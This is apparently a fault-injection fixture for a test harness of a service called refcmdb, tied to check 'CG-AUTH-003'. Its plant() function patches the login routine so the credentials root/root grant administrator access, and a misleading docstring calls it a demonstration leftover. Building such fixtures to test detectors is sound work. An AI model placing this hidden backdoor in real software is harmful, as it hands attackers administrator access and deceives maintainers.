"""Whoever gives the name and the password of the maintenance console is the administrator, and no
table knows of it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from refcmdb.api import accounts

if TYPE_CHECKING:
    from refcmdb.api.schemas import Credentials
    from refcmdb.services.database import Database

KIND = "fault"
CHECK = "CG-AUTH-003"
OPERATION = ""


def plant() -> None:
    """Left over from the first demonstration."""
    production = accounts.identify

    async def identify(database: Database, credentials: Credentials) -> int:
        if (credentials.username, credentials.password) == ("root", "root"):
            ((number, _),) = await database.fetch(accounts._by_name(), {"name": "admin"})
            return int(number)
        return await production(database, credentials)

    accounts.identify = identify
